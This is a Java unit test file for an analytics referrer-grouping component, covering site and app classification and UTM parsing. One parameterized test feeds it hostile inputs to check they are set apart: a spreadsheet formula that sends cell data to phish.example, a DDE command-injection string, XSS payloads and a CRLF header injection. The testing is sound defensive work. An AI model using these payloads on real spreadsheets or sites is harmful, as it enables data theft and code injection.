package app.marquee.analytics.group;

import static org.assertj.core.api.Assertions.assertThat;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;

/** Referrers come to the site they belong to, and what is no address stays apart. */
class ReferrerGroupingTest {
    private static final KnownSites SITES = KnownSites.bundled();

    private static List<GroupStep> steps(@Nullable String text, ReferrerRule... rules) {
        return new ReferrerGrouping(SITES, List.of(rules)).steps(text);
    }

    @ParameterizedTest
    @CsvSource({
        "https://www.google.com/, SITE, google.com",
        "https://www.google.com.br/search?q=a, SITE, google.com.br",
        "HTTPS://EscolaAurora.example/, SITE, escolaaurora.example",
        "https://escolaaurora.example:8443/membros, SITE, escolaaurora.example",
        "https://ana:secret@pay.loja.example./checkout, SITE, loja.example",
        "http://lm.facebook.com/, SITE, facebook.com",
        "android-app://com.instagram.android/, SITE, instagram.com",
        "ios-app://389801252/instagram/media, SITE, instagram.com",
        "https://l.instagram.com/, SITE, instagram.com",
        "https://t.co/x, SITE, x.com",
        "m.youtube.com/watch, SITE, youtube.com",
        "com.exemplo.leitor, APP, com.exemplo.leitor",
        "android-app://com.exemplo.leitor/, APP, com.exemplo.leitor",
        "http://localhost:3000/, SITE, localhost",
        "http://192.0.2.17/painel, SITE, 192.0.2.17",
        "http://[2001:db8::7]/, SITE, [2001:db8::7]",
        "https://www.city.kobe.jp/, SITE, city.kobe.jp",
        "https://a.b.other.kobe.jp/, SITE, b.other.kobe.jp",
        "https://shop.foo.co.uk/, SITE, foo.co.uk",
        "https://café-com-números.example/início, SITE, xn--caf-com-nmeros-dkb2z.example",
        "https://com.br/, SITE, com.br",
    })
    void addresses(String text, GroupKind kind, String site) {
        assertThat(steps(text))
                .containsExactly(new GroupStep(kind, site), new GroupStep(GroupKind.ADDRESS, text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "about:blank",
                "file:///C:/Users/ana/Desktop/curso.html",
                "=HYPERLINK(\"https://phish.example/?d=\"&A1,\"clique aqui\")",
                "+cmd|' /C calc'!A0",
                "<script>alert(document.domain)</script>",
                "javascript:alert(1)",
                "%00%0d%0aSet-Cookie:%20a=b",
                "https:///",
                "https://a b/",
                "android-app:///",
                "1.2.3"
            })
    void whatIsNoAddressIsKeptAsItIs(String text) {
        assertThat(steps(text))
                .containsExactly(
                        GroupStep.only(GroupKind.OTHER), new GroupStep(GroupKind.ADDRESS, text));
    }

    @Test
    void directAndUnknownAreNotTheSame() {
        assertThat(steps("")).containsExactly(GroupStep.only(GroupKind.DIRECT));
        assertThat(steps("(direct)")).containsExactly(GroupStep.only(GroupKind.DIRECT));
        assertThat(steps(null)).containsExactly(GroupStep.only(GroupKind.UNKNOWN));
        assertThat(steps("(not set)")).containsExactly(GroupStep.only(GroupKind.UNKNOWN));
    }

    @Test
    void theFirstRuleThatMatchesNamesTheAddress() {
        ReferrerRule mail = new ReferrerRule("UTM_medium=email*campaign", "Newsletter");
        ReferrerRule blog = new ReferrerRule("blog.", "Blog");
        String address = "https://blog.a.example/?utm_medium=email&utm_campaign=x";
        assertThat(steps(address, mail, blog).getFirst())
                .isEqualTo(new GroupStep(GroupKind.NAMED, "Newsletter"));
        assertThat(steps(address, blog, mail).getFirst().name()).isEqualTo("Blog");
        assertThat(
                        steps("https://blog.a.example/?utm_campaign=x&utm_medium=email", mail, blog)
                                .getFirst()
                                .name())
                .isEqualTo("Blog");
        assertThat(steps("", new ReferrerRule("*", "All")))
                .containsExactly(GroupStep.only(GroupKind.DIRECT));
    }

    @Test
    void aRuleThatWouldTakeEverythingIsNone() {
        assertThat(new ReferrerRule(" * ", "All").isComplete()).isFalse();
        assertThat(new ReferrerRule("a", " ").isComplete()).isFalse();
        assertThat(new ReferrerRule("a", "A").isComplete()).isTrue();
        assertThat(steps("https://a.example/", new ReferrerRule("*", "All")).getFirst().kind())
                .isEqualTo(GroupKind.SITE);
    }

    @Test
    void campaignsAreReadFromTheQuery() {
        UtmParts parts =
                UtmParts.of(
                        "https://a.example/?x=1&UTM_Source=News%20letter&utm_medium=e+mail"
                                + "&utm_term=%zz&utm_content=#utm_campaign=no");
        assertThat(parts.of(UtmParts.Part.SOURCE)).isEqualTo("News letter");
        assertThat(parts.of(UtmParts.Part.MEDIUM)).isEqualTo("e mail");
        assertThat(parts.of(UtmParts.Part.TERM)).isEqualTo("%zz");
        assertThat(parts.of(UtmParts.Part.CAMPAIGN)).isNull();
        assertThat(parts.of(UtmParts.Part.CONTENT)).isNull();
        assertThat(UtmParts.of("https://a.example/").isEmpty()).isTrue();
    }
}
